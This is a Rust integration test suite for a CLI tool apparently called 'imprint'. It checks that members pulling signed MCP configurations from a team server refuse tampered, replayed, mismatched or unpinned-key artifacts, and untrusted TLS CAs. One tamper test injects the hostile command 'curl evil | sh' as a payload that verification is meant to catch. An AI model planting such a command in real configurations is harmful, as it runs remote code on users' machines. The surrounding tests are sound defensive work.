//! Pull and verify on a member's machine, end to end through the real binary: a team server
//! (`imprint serve --http`, on PostgreSQL when `IMPRINT_TEST_DATABASE_URL` is set, else
//! SQLite), a second `imprint` with its own data directory and home that pins the server's
//! key and deploys with `deploy --from`, and a stub HTTP server in the test that stands
//! between them to tamper with, replay or swap the server's real answers.

mod http_support;
mod support;

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};

use http_support::Server;
use serde_json::{Value, json};
use support::TestEnv;

/// The team server's side: its data directory, and its own database when PostgreSQL is set.
struct Team {
    env: TestEnv,
    database: Option<TeamDb>,
}

struct TeamDb {
    admin: String,
    name: String,
    url: String,
}

impl Drop for TeamDb {
    fn drop(&mut self) {
        let _ = std::process::Command::new("psql")
            .args([
                self.admin.as_str(),
                "-qc",
                &format!("DROP DATABASE IF EXISTS {} WITH (FORCE)", self.name),
            ])
            .output();
    }
}

impl Team {
    fn new() -> Team {
        static NEXT: AtomicUsize = AtomicUsize::new(0);
        let database = std::env::var("IMPRINT_TEST_DATABASE_URL")
            .ok()
            .map(|admin| {
                let name = format!(
                    "trust_{}_{}",
                    std::process::id(),
                    NEXT.fetch_add(1, Ordering::Relaxed)
                );
                let created = std::process::Command::new("psql")
                    .args([admin.as_str(), "-qc", &format!("CREATE DATABASE {name}")])
                    .output()
                    .unwrap();
                assert!(created.status.success(), "{created:?}");
                let base = admin.split('?').next().unwrap();
                let url = format!("{}/{name}", &base[..base.rfind('/').unwrap()]);
                TeamDb { admin, name, url }
            });
        Team {
            env: TestEnv::new(),
            database,
        }
    }

    fn args<'a>(&'a self, args: &[&'a str]) -> Vec<&'a str> {
        let mut all = Vec::new();
        if let Some(db) = &self.database {
            all.extend(["--database", db.url.as_str()]);
        }
        all.extend_from_slice(args);
        all
    }

    fn cli(&self, args: &[&str]) -> Value {
        self.env.cli_ok(&self.args(args))
    }

    fn serve(&self) -> Server {
        let extra = match &self.database {
            Some(db) => vec!["--database", db.url.as_str()],
            None => vec![],
        };
        Server::start(&self.env, &extra)
    }

    /// Adds `server` to the draft of client/profile and publishes it; the envelope.
    fn publish(&self, client: &str, profile: &str, server: &str) -> Value {
        self.cli(&[
            "draft",
            "add",
            server,
            "--client",
            client,
            "--profile",
            profile,
        ]);
        self.cli(&[
            "publish",
            "--client",
            client,
            "--profile",
            profile,
            "-m",
            server,
        ]);
        self.cli(&["config", "get", "--client", client, "--profile", profile])
    }
}

/// The token a member deploys with: a reader's, the least a pull needs.
fn reader_token(team: &Team) -> String {
    let output = team
        .env
        .command()
        .args(team.args(&["token", "create", "--name", "member", "--role", "reader"]))
        .output()
        .unwrap();
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8(output.stdout).unwrap().trim().to_string()
}

/// A member's machine: its own home and data directory.
fn member_cli(member: &TestEnv, token: &str, args: &[&str]) -> (i32, Value, String) {
    let output = member
        .command()
        .env("IMPRINT_TEAM_TOKEN", token)
        .arg("--json")
        .args(args)
        .output()
        .unwrap();
    (
        output.status.code().unwrap_or(-1),
        serde_json::from_str(&String::from_utf8_lossy(&output.stdout)).unwrap_or(Value::Null),
        String::from_utf8_lossy(&output.stderr).to_string(),
    )
}

fn member_ok(member: &TestEnv, token: &str, args: &[&str]) -> Value {
    let (code, value, stderr) = member_cli(member, token, args);
    assert_eq!(code, 0, "imprint {args:?} failed: {stderr}");
    value
}

fn cursor_servers(member: &TestEnv) -> Value {
    let text = std::fs::read_to_string(member.file(".cursor/mcp.json")).unwrap();
    serde_json::from_str::<Value>(&text).unwrap()["mcpServers"].clone()
}

/// A tiny HTTP server in front of the team server: each request is forwarded as it came,
/// and `rewrite` may change the path asked for or the answer given.
struct Stub {
    addr: String,
}

type Rewrite = dyn Fn(&str, String) -> (String, Option<String>) + Send + Sync;

impl Stub {
    /// `rewrite(path)` gives the path to ask the real server (the first half) and, called
    /// again with the real answer's body, what to answer instead (the second half).
    fn start(upstream: String, rewrite: Arc<Rewrite>) -> Stub {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let addr = listener.local_addr().unwrap().to_string();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(stream) = stream else { continue };
                let upstream = upstream.clone();
                let rewrite = rewrite.clone();
                std::thread::spawn(move || serve_one(stream, &upstream, &*rewrite));
            }
        });
        Stub { addr }
    }

    fn url(&self) -> String {
        format!("http://{}", self.addr)
    }
}

fn serve_one(mut stream: TcpStream, upstream: &str, rewrite: &Rewrite) {
    answer_one(&mut stream, upstream, rewrite);
    let mut rest = Vec::new();
    let _ = stream.read_to_end(&mut rest);
}

/// Reads one GET from `stream`, forwards it to `upstream` (through `rewrite`) and writes
/// the answer back.
fn answer_one<S: Read + Write>(stream: &mut S, upstream: &str, rewrite: &Rewrite) {
    let (path, authorization) = {
        let mut reader = BufReader::new(&mut *stream);
        let mut request_line = String::new();
        if reader.read_line(&mut request_line).is_err() {
            return;
        }
        let path = request_line
            .split_whitespace()
            .nth(1)
            .unwrap_or("/")
            .to_string();
        let mut authorization = String::new();
        loop {
            let mut line = String::new();
            if reader.read_line(&mut line).unwrap_or(0) == 0 || line == "\r\n" {
                break;
            }
            if let Some((name, value)) = line.split_once(':')
                && name.eq_ignore_ascii_case("authorization")
            {
                authorization = value.trim().to_string();
            }
        }
        (path, authorization)
    };
    let (asked, _) = rewrite(&path, String::new());
    let reply = http_support::http(
        upstream,
        "GET",
        &asked,
        &[("authorization", &authorization)],
        None,
    );
    let (_, replaced) = rewrite(&path, reply.body.clone());
    let body = replaced.unwrap_or(reply.body);
    let _ = write!(
        stream,
        "HTTP/1.1 {} X\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
        reply.status,
        body.len()
    );
    let _ = stream.flush();
}

/// A team with a published cursor/backend, its server running, and a member who pinned its
/// key (by key id, looked up on the server) under the name `team` at `url` (default: the
/// server itself).
struct Setup {
    team: Team,
    server: Server,
    member: TestEnv,
    token: String,
    first: Value,
}

fn setup() -> Setup {
    let team = Team::new();
    let first = team.publish("cursor", "backend", "memory");
    let server = team.serve();
    let token = reader_token(&team);
    Setup {
        team,
        server,
        member: TestEnv::new(),
        token,
        first,
    }
}

impl Setup {
    fn trust(&self, url: &str) {
        let key_id = self.first["signing_key_id"].as_str().unwrap();
        member_ok(
            &self.member,
            &self.token,
            &["trust", "add", url, "--name", "team", "--key", key_id],
        );
    }

    fn deploy(&self) -> (i32, Value, String) {
        member_cli(
            &self.member,
            &self.token,
            &[
                "deploy",
                "--from",
                "team",
                "--client",
                "cursor",
                "--profile",
                "backend",
            ],
        )
    }
}

#[test]
fn a_member_pulls_verifies_and_deploys_the_team_artifact() {
    let s = setup();
    // the token is kept with the entry (0600), never shown
    member_ok(
        &s.member,
        "",
        &[
            "trust",
            "add",
            &s.server.url(),
            "--name",
            "team",
            "--key",
            s.first["signing_key_id"].as_str().unwrap(),
            "--token",
            &s.token,
        ],
    );
    let listed = member_ok(&s.member, "", &["trust", "list"]);
    assert_eq!(listed["servers"][0]["has_token"], true, "{listed}");
    assert!(
        !listed.to_string().contains(&s.token),
        "token shown: {listed}"
    );
    let trust_file = s.member.data().join("trust/trust.json");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(&trust_file).unwrap().permissions().mode();
        assert_eq!(mode & 0o777, 0o600);
    }

    let (code, deployed, stderr) = member_cli(
        &s.member,
        "",
        &[
            "deploy",
            "--from",
            "team",
            "--client",
            "cursor",
            "--profile",
            "backend",
        ],
    );
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(deployed["status"], "deployed", "{deployed}");
    assert_eq!(deployed["sequence"], 1);
    assert_eq!(deployed["artifact_id"], s.first["artifact_id"]);
    assert!(cursor_servers(&s.member)["memory"].is_object());
    // recorded like any deploy: the member's own deployed state names the artifact
    let local = member_ok(
        &s.member,
        "",
        &[
            "config",
            "deployed",
            "--client",
            "cursor",
            "--profile",
            "backend",
        ],
    );
    assert_eq!(local["artifact_id"], s.first["artifact_id"]);

    // the same artifact again: nothing to do
    let (code, again, _) = member_cli(
        &s.member,
        "",
        &[
            "deploy",
            "--from",
            "team",
            "--client",
            "cursor",
            "--profile",
            "backend",
        ],
    );
    assert_eq!(code, 0);
    assert_eq!(again["status"], "up-to-date");

    // a newer revision on the server: status shows it beside what is deployed, --all takes it
    let second = s.team.publish("cursor", "backend", "fetch");
    let status = member_ok(&s.member, "", &["status"]);
    let row = &status["team"][0];
    assert_eq!(row["state"], "behind", "{status}");
    assert_eq!(row["deployed_sequence"], 1);
    assert_eq!(row["remote_sequence"], 2);
    let human = s.member.command().arg("status").output().unwrap();
    let human = String::from_utf8_lossy(&human.stdout);
    assert!(
        human.contains("TEAM") && human.contains("cursor/backend") && human.contains("behind"),
        "{human}"
    );
    let all = member_ok(&s.member, "", &["deploy", "--from", "team", "--all"]);
    assert_eq!(all["results"][0]["sequence"], 2, "{all}");
    assert_eq!(all["results"][0]["artifact_id"], second["artifact_id"]);
    assert!(cursor_servers(&s.member)["fetch"].is_object());
    let status = member_ok(&s.member, "", &["status"]);
    assert_eq!(status["team"][0]["state"], "up-to-date", "{status}");
    // the member's own table agrees: the file holds the last pull, so it is in step
    let cursor = status["files"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["client_id"] == "cursor" && f["scope"] == "user")
        .unwrap_or_else(|| panic!("no cursor row: {status}"));
    assert_eq!(cursor["state"], "in-sync", "{cursor}");
    assert_eq!(cursor["pulled_from"], "team", "{cursor}");

    // local guarantees hold for pulled artifacts too: an edited file is drift, refused
    let path = s.member.file(".cursor/mcp.json");
    let mut file: Value = serde_json::from_str(&std::fs::read_to_string(&path).unwrap()).unwrap();
    file["mcpServers"]["memory"]["args"] = json!(["edited by hand"]);
    std::fs::write(&path, file.to_string()).unwrap();
    s.team.publish("cursor", "backend", "time");
    let (code, _, stderr) = member_cli(
        &s.member,
        "",
        &[
            "deploy",
            "--from",
            "team",
            "--client",
            "cursor",
            "--profile",
            "backend",
        ],
    );
    assert_eq!(code, 5, "{stderr}");
    assert!(
        std::fs::read_to_string(&path)
            .unwrap()
            .contains("edited by hand")
    );
}

#[test]
fn an_artifact_signed_by_an_unpinned_key_is_refused() {
    let s = setup();
    // the member pins some other key (a PEM file), not the team's
    let stranger = TestEnv::new();
    stranger.cli_ok(&["keys", "init"]);
    let pem = stranger.data().join("keys/signing.pub");
    member_ok(
        &s.member,
        &s.token,
        &[
            "trust",
            "add",
            &s.server.url(),
            "--name",
            "team",
            "--key",
            pem.to_str().unwrap(),
        ],
    );
    let (code, _, stderr) = s.deploy();
    assert_eq!(code, 7, "{stderr}");
    assert!(stderr.contains("not pinned"), "{stderr}");
    assert!(stderr.contains("imprint trust add"), "{stderr}");
    assert!(!s.member.file(".cursor/mcp.json").exists());
}

#[test]
fn from_server_needs_a_confirmation_and_pins_what_it_showed() {
    let s = setup();
    let (code, _, stderr) = member_cli(
        &s.member,
        &s.token,
        &["trust", "add", &s.server.url(), "--from-server"],
    );
    assert_eq!(code, 3, "no terminal, no --yes: {stderr}");
    assert!(stderr.contains("--yes"), "{stderr}");
    let added = member_ok(
        &s.member,
        &s.token,
        &["trust", "add", &s.server.url(), "--from-server", "--yes"],
    );
    // a loopback server is named `local` unless --name says otherwise
    assert_eq!(added["server"]["name"], "local");
    assert_eq!(
        added["server"]["keys"][0]["key_id"],
        s.first["signing_key_id"]
    );
    let (code, _, stderr) = member_cli(
        &s.member,
        &s.token,
        &[
            "deploy",
            "--from",
            "local",
            "--client",
            "cursor",
            "--profile",
            "backend",
        ],
    );
    assert_eq!(code, 0, "{stderr}");
    // a plain-http URL to another host is refused unless allowed explicitly
    let (code, _, stderr) = member_cli(
        &s.member,
        &s.token,
        &[
            "trust",
            "add",
            "http://imprint.team.example",
            "--key",
            "x.pub",
        ],
    );
    assert_eq!(code, 3);
    assert!(stderr.contains("--allow-http"), "{stderr}");
}

#[test]
fn a_body_tampered_in_transit_is_refused() {
    let s = setup();
    let stub = Stub::start(
        s.server.addr.clone(),
        Arc::new(|path: &str, body: String| {
            let mut answer = None;
            if path.starts_with("/v1/config/") && !body.is_empty() {
                let mut envelope: Value = serde_json::from_str(&body).unwrap();
                envelope["payload"]["mcpServers"]["memory"]["command"] = json!("curl evil | sh");
                answer = Some(envelope.to_string());
            }
            (path.to_string(), answer)
        }),
    );
    s.trust(&stub.url());
    let (code, _, stderr) = s.deploy();
    assert_eq!(code, 7, "{stderr}");
    assert!(stderr.contains("failed verification"), "{stderr}");
    assert!(!s.member.file(".cursor/mcp.json").exists());

    // a re-signed-looking change of a covered field (the changelog) is refused too
    let stub = Stub::start(
        s.server.addr.clone(),
        Arc::new(|path: &str, body: String| {
            let mut answer = None;
            if path.starts_with("/v1/config/") && !body.is_empty() {
                let mut envelope: Value = serde_json::from_str(&body).unwrap();
                envelope["metadata"]["sequence"] = json!(99);
                answer = Some(envelope.to_string());
            }
            (path.to_string(), answer)
        }),
    );
    member_ok(&s.member, "", &["trust", "remove", "team"]);
    s.trust(&stub.url());
    let (code, _, stderr) = s.deploy();
    assert_eq!(code, 7, "{stderr}");
    assert!(stderr.contains("failed verification"), "{stderr}");
}

#[test]
fn a_replayed_older_artifact_and_another_clients_artifact_are_refused() {
    let s = setup();
    s.team.publish("cursor", "backend", "fetch");
    s.team.publish("claude-code", "backend", "memory");
    // mode 0: pass through; 1: serve revision 1 (a replay); 2: serve claude-code's artifact
    let mode = Arc::new(AtomicUsize::new(0));
    let first_id = s.first["artifact_id"].as_str().unwrap().to_string();
    let seen = Arc::new(Mutex::new(Vec::<String>::new()));
    let stub = {
        let mode = mode.clone();
        let seen = seen.clone();
        Stub::start(
            s.server.addr.clone(),
            Arc::new(move |path: &str, _body: String| {
                seen.lock().unwrap().push(path.to_string());
                let asked = match (mode.load(Ordering::SeqCst), path) {
                    (1, "/v1/config/cursor/backend") => {
                        format!("{path}?artifact_id={first_id}")
                    }
                    (2, "/v1/config/cursor/backend") => "/v1/config/claude-code/backend".into(),
                    _ => path.to_string(),
                };
                (asked, None)
            }),
        )
    };
    s.trust(&stub.url());
    let (code, deployed, stderr) = s.deploy();
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(deployed["sequence"], 2);

    mode.store(1, Ordering::SeqCst);
    let (code, _, stderr) = s.deploy();
    assert_eq!(code, 7, "{stderr}");
    assert!(stderr.contains("replay"), "{stderr}");
    assert!(stderr.contains("revision 1"), "{stderr}");
    assert!(
        cursor_servers(&s.member)["fetch"].is_object(),
        "still revision 2"
    );

    mode.store(2, Ordering::SeqCst);
    let (code, _, stderr) = s.deploy();
    assert_eq!(code, 7, "{stderr}");
    assert!(stderr.contains("claude-code"), "{stderr}");
    assert!(stderr.contains("not cursor/backend"), "{stderr}");
    assert!(
        seen.lock()
            .unwrap()
            .iter()
            .any(|p| p == "/v1/config/cursor/backend")
    );
}

#[test]
fn a_rotation_is_followed_through_its_endorsement_and_an_unendorsed_key_is_refused() {
    let s = setup();
    s.trust(&s.server.url());
    let (code, _, stderr) = s.deploy();
    assert_eq!(code, 0, "{stderr}");
    let old_key = s.first["signing_key_id"].as_str().unwrap().to_string();

    // the server rotates: the old key retires and endorses the new one
    let rotated = s.team.cli(&["keys", "init", "--regenerate"]);
    let new_key = rotated["signing_key_id"].as_str().unwrap().to_string();
    assert_ne!(new_key, old_key);
    let keyring = s.server.get("/v1/keyring", &s.token).json();
    let key = |id: &str| {
        keyring["keys"]
            .as_array()
            .unwrap()
            .iter()
            .find(|k| k["key_id"] == id)
            .cloned()
            .unwrap_or_else(|| panic!("{id} not in {keyring}"))
    };
    assert!(key(&old_key)["retired_at"].is_string(), "{keyring}");
    assert_eq!(key(&old_key)["replaced_by"], new_key.as_str());
    assert_eq!(key(&new_key)["current"], true);
    assert_eq!(key(&new_key)["endorsement"]["replaces"], old_key.as_str());
    // old revisions keep verifying on the server
    let verified = s.team.cli(&[
        "config",
        "verify",
        "--client",
        "cursor",
        "--profile",
        "backend",
        "--artifact",
        s.first["artifact_id"].as_str().unwrap(),
    ]);
    assert_eq!(verified["valid"], true, "{verified}");

    let second = s.team.publish("cursor", "backend", "fetch");
    assert_eq!(second["signing_key_id"], new_key.as_str());
    let (code, pulled, stderr) = s.deploy();
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(pulled["newly_pinned"], json!([new_key.clone()]));
    let listed = member_ok(&s.member, "", &["trust", "list"]);
    let pins = listed["servers"][0]["keys"].as_array().unwrap().clone();
    assert!(
        pins.iter()
            .any(|k| k["key_id"] == new_key.as_str() && k["endorsed_by"] == old_key.as_str()),
        "{listed}"
    );

    // a key that appears without an endorsement (the key files replaced by hand) is refused
    let keys = s.team.env.data().join("keys");
    std::fs::remove_file(keys.join("signing.key")).unwrap();
    std::fs::remove_file(keys.join("signing.pub")).unwrap();
    let fresh = s.team.cli(&["keys", "init"]);
    let third = s.team.publish("cursor", "backend", "time");
    assert_eq!(third["signing_key_id"], fresh["signing_key_id"]);
    let (code, _, stderr) = s.deploy();
    assert_eq!(code, 7, "{stderr}");
    assert!(stderr.contains("not pinned"), "{stderr}");
    assert!(!cursor_servers(&s.member)["time"].is_object());
}

/// Runs `keys init --regenerate` on the team's side, aborting at `point` (a test-build
/// hook, `IMPRINT_TEST_CRASH_AT`): what a crash there leaves on disk and in the store.
fn rotate_and_crash_at(team: &Team, point: &str) {
    let output = team
        .env
        .command()
        .env("IMPRINT_TEST_CRASH_AT", point)
        .args(team.args(&["--json", "keys", "init", "--regenerate"]))
        .output()
        .unwrap();
    assert!(
        !output.status.success(),
        "did not crash at {point}: {output:?}"
    );
}

#[test]
fn a_rotation_a_crash_interrupted_is_discarded_or_finished_at_the_next_start() {
    let s = setup();
    s.trust(&s.server.url());
    let (code, _, stderr) = s.deploy();
    assert_eq!(code, 0, "{stderr}");
    let old_key = s.first["signing_key_id"].as_str().unwrap().to_string();
    let keys = s.team.env.data().join("keys");
    let next = keys.join("signing.key.next");
    let archived = || std::fs::read_dir(keys.join("archive")).unwrap().count();
    let before = archived();

    // A crash after the successor was written, before anything was recorded: the next
    // start discards it, and the old key keeps signing (no member was told of another).
    rotate_and_crash_at(&s.team, "rotation-prepared");
    assert!(next.exists());
    let keyring = s.server.get("/v1/keyring", &s.token).json();
    assert_eq!(keyring["current_key_id"], old_key.as_str(), "{keyring}");
    assert_eq!(keyring["keys"].as_array().unwrap().len(), 1, "{keyring}");
    assert!(!next.exists(), "discarded");
    assert_eq!(archived(), before, "the unused successor is not offered");
    let again = s.team.publish("cursor", "backend", "fetch");
    assert_eq!(again["signing_key_id"], old_key.as_str());

    // A crash after the rotation was recorded, before the key files were switched: the
    // next start finishes it, so the new key is the one the recorded endorsement names.
    rotate_and_crash_at(&s.team, "rotation-recorded");
    assert!(next.exists());
    let third = s.team.publish("cursor", "backend", "time");
    let new_key = third["signing_key_id"].as_str().unwrap().to_string();
    assert_ne!(new_key, old_key, "finished: the successor signs");
    assert!(!next.exists());
    let keyring = s.server.get("/v1/keyring", &s.token).json();
    assert_eq!(keyring["current_key_id"], new_key.as_str(), "{keyring}");
    let old = keyring["keys"]
        .as_array()
        .unwrap()
        .iter()
        .find(|k| k["key_id"] == old_key.as_str())
        .cloned()
        .unwrap();
    assert_eq!(old["replaced_by"], new_key.as_str(), "{keyring}");
    // The member follows the rotation through the recorded endorsement.
    let (code, pulled, stderr) = s.deploy();
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(pulled["newly_pinned"], json!([new_key]));
    assert!(cursor_servers(&s.member)["time"].is_object());
    // And a later rotation runs as usual from the new key.
    let rotated = s.team.cli(&["keys", "init", "--regenerate"]);
    assert_ne!(rotated["signing_key_id"], new_key.as_str());
}

/// `imprint trust add URL --from-server` under a pseudo-terminal (util-linux `script`),
/// answering the prompt with `answer`: (exit code, everything the terminal showed).
fn trust_from_server_on_a_terminal(s: &Setup, answer: &str) -> (i32, String) {
    let command_line = format!(
        "{} trust add {} --from-server --name team",
        support::BIN,
        s.server.url()
    );
    let mut command = std::process::Command::new("script");
    command.args(["-qec", &command_line, "/dev/null"]);
    s.member.apply_env(&mut command);
    command
        .env("IMPRINT_TEAM_TOKEN", &s.token)
        .env("TERM", "dumb")
        .env("NO_COLOR", "1")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped());
    let mut child = command.spawn().expect("util-linux `script` is installed");
    child
        .stdin
        .take()
        .unwrap()
        .write_all(format!("{answer}\n").as_bytes())
        .unwrap();
    let output = child.wait_with_output().unwrap();
    (
        output.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&output.stdout).to_string(),
    )
}

#[test]
fn from_server_on_a_terminal_shows_the_fingerprints_and_pins_only_on_yes() {
    let s = setup();
    let key_id = s.first["signing_key_id"].as_str().unwrap();
    let keyring = s.server.get("/v1/keyring", &s.token).json();
    let fingerprint = keyring["keys"][0]["fingerprint"].as_str().unwrap();

    // No: nothing is pinned, and it says so.
    let (code, shown) = trust_from_server_on_a_terminal(&s, "n");
    assert_eq!(code, 3, "{shown}");
    assert!(
        shown.contains(key_id) && shown.contains(fingerprint),
        "{shown}"
    );
    assert!(shown.contains("[y/N]"), "{shown}");
    assert!(shown.contains("nothing pinned"), "{shown}");
    let listed = member_ok(&s.member, "", &["trust", "list"]);
    assert_eq!(listed["servers"], json!([]), "{listed}");

    // Yes: the keys it showed are pinned, and a deploy verifies against them.
    let (code, shown) = trust_from_server_on_a_terminal(&s, "y");
    assert_eq!(code, 0, "{shown}");
    assert!(
        shown.contains(fingerprint) && shown.contains("(current)"),
        "{shown}"
    );
    let listed = member_ok(&s.member, "", &["trust", "list"]);
    assert_eq!(listed["servers"][0]["name"], "team", "{listed}");
    assert_eq!(listed["servers"][0]["keys"][0]["key_id"], key_id);
    assert_eq!(listed["servers"][0]["keys"][0]["fingerprint"], fingerprint);
    let (code, _, stderr) = s.deploy();
    assert_eq!(code, 0, "{stderr}");
}

/// A CA and a server certificate it signed (for 127.0.0.1), made with the `openssl` tool
/// in `dir`, plus a second, unrelated CA. Returns (ca.pem, other-ca.pem, server chain,
/// server key).
fn certificates(dir: &std::path::Path) -> [std::path::PathBuf; 4] {
    std::fs::create_dir_all(dir).unwrap();
    let openssl = |args: &[&str]| {
        let output = std::process::Command::new("openssl")
            .current_dir(dir)
            .args(args)
            .output()
            .expect("the openssl tool is installed");
        assert!(output.status.success(), "openssl {args:?}: {output:?}");
    };
    let ec = ["-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1"];
    for ca in ["ca", "other-ca"] {
        let mut args = vec!["req", "-x509", "-nodes", "-days", "2"];
        args.extend(ec);
        let (key, cert, subject) = (
            format!("{ca}.key"),
            format!("{ca}.pem"),
            format!("/CN=Imprint test {ca}"),
        );
        args.extend(["-keyout", &key, "-out", &cert, "-subj", &subject]);
        openssl(&args);
    }
    let mut args = vec!["req", "-new", "-nodes"];
    args.extend(ec);
    args.extend([
        "-keyout",
        "server.key",
        "-out",
        "server.csr",
        "-subj",
        "/CN=127.0.0.1",
    ]);
    openssl(&args);
    std::fs::write(
        dir.join("server.ext"),
        "subjectAltName=IP:127.0.0.1,DNS:localhost\nbasicConstraints=CA:FALSE\nextendedKeyUsage=serverAuth\n",
    )
    .unwrap();
    openssl(&[
        "x509",
        "-req",
        "-in",
        "server.csr",
        "-CA",
        "ca.pem",
        "-CAkey",
        "ca.key",
        "-CAcreateserial",
        "-days",
        "2",
        "-extfile",
        "server.ext",
        "-out",
        "server.pem",
    ]);
    ["ca.pem", "other-ca.pem", "server.pem", "server.key"].map(|name| dir.join(name))
}

/// A TLS endpoint (rustls) in front of the team server: each connection is one request,
/// forwarded as it came. Returns its `https://127.0.0.1:PORT` URL.
fn tls_proxy(upstream: String, chain: &std::path::Path, key: &std::path::Path) -> String {
    use rustls::pki_types::pem::PemObject;
    use rustls::pki_types::{CertificateDer, PrivateKeyDer};

    let certs: Vec<CertificateDer<'static>> = CertificateDer::pem_file_iter(chain)
        .unwrap()
        .collect::<Result<_, _>>()
        .unwrap();
    let key = PrivateKeyDer::from_pem_file(key).unwrap();
    let config = rustls::ServerConfig::builder_with_provider(Arc::new(
        rustls::crypto::ring::default_provider(),
    ))
    .with_safe_default_protocol_versions()
    .unwrap()
    .with_no_client_auth()
    .with_single_cert(certs, key)
    .unwrap();
    let config = Arc::new(config);
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("https://{}", listener.local_addr().unwrap());
    std::thread::spawn(move || {
        for tcp in listener.incoming() {
            let Ok(tcp) = tcp else { continue };
            let config = config.clone();
            let upstream = upstream.clone();
            std::thread::spawn(move || {
                let Ok(connection) = rustls::ServerConnection::new(config) else {
                    return;
                };
                let mut tls = rustls::StreamOwned::new(connection, tcp);
                let pass: Arc<Rewrite> = Arc::new(|path: &str, _| (path.to_string(), None));
                answer_one(&mut tls, &upstream, &*pass);
                tls.conn.send_close_notify();
                let _ = tls.flush();
            });
        }
    });
    url
}

#[test]
fn https_with_a_private_ca_pins_and_deploys_and_any_other_ca_is_refused() {
    let s = setup();
    let [ca, other_ca, chain, key] = certificates(&s.member.dir.path().join("tls"));
    let url = tls_proxy(s.server.addr.clone(), &chain, &key);
    let key_id = s.first["signing_key_id"].as_str().unwrap();
    let add = |extra: &[&str]| {
        let mut args = vec![
            "trust",
            "add",
            url.as_str(),
            "--name",
            "team",
            "--key",
            key_id,
        ];
        args.extend_from_slice(extra);
        member_cli(&s.member, &s.token, &args)
    };

    // The built-in roots do not know a private CA, nor does another CA vouch for it.
    let (code, _, stderr) = add(&[]);
    assert_eq!(code, 7, "{stderr}");
    assert!(
        stderr.contains("does not trust") && stderr.contains("--ca-file PATH"),
        "{stderr}"
    );
    let (code, _, stderr) = add(&["--ca-file", other_ca.to_str().unwrap()]);
    assert_eq!(code, 7, "{stderr}");
    assert!(
        stderr.contains("the CA given with --ca-file does not vouch for")
            && stderr.contains("UnknownIssuer"),
        "{stderr}"
    );
    // A file that is no certificate is named, with the fix.
    let (code, _, stderr) = add(&["--ca-file", key.to_str().unwrap()]);
    assert_eq!(code, 3, "{stderr}");
    assert!(
        stderr.contains("server.key") && stderr.contains("no certificate"),
        "{stderr}"
    );
    let listed = member_ok(&s.member, "", &["trust", "list"]);
    assert_eq!(listed["servers"], json!([]), "nothing pinned: {listed}");

    // The team's CA: the key is looked up over https and pinned, the CA kept with it, and
    // the deploy fetches and verifies over https.
    let (code, added, stderr) = add(&["--ca-file", ca.to_str().unwrap()]);
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(added["server"]["has_ca"], true, "{added}");
    let (code, deployed, stderr) = s.deploy();
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(deployed["sequence"], 1, "{deployed}");
    assert!(cursor_servers(&s.member)["memory"].is_object());

    // SSL_CERT_FILE serves a server added without --ca-file.
    let other = TestEnv::new();
    let with_bundle = |args: &[&str]| {
        let output = other
            .command()
            .env("IMPRINT_TEAM_TOKEN", &s.token)
            .env("SSL_CERT_FILE", &ca)
            .arg("--json")
            .args(args)
            .output()
            .unwrap();
        assert!(output.status.success(), "{args:?}: {output:?}");
    };
    with_bundle(&["trust", "add", &url, "--name", "team", "--key", key_id]);
    with_bundle(&[
        "deploy",
        "--from",
        "team",
        "--client",
        "cursor",
        "--profile",
        "backend",
    ]);
    assert!(cursor_servers(&other)["memory"].is_object());
}
